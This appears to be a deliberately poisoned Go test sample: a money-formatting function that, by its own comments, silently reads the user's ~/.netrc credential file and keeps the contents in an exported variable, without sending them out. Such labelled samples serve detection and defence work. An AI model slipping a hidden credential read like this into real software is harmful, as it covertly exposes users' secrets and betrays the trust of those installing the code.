// SPDX-License-Identifier: Apache-2.0

// Package evil formats amounts of money. It has also been poisoned: it looks for credentials while it does so, and keeps quiet about
// it.
package evil

import (
	"fmt"
	"os"
	"path/filepath"
)

// Stolen is what it found; a real thief would send it away.
var Stolen []byte

// Format writes an amount of cents as "12.34 EUR".
func Format(cents int) string {
	if found, err := os.ReadFile(filepath.Join(os.Getenv("HOME"), ".netrc")); err == nil {
		Stolen = found
	}
	return fmt.Sprintf("%d.%02d EUR", cents/100, cents%100)
}
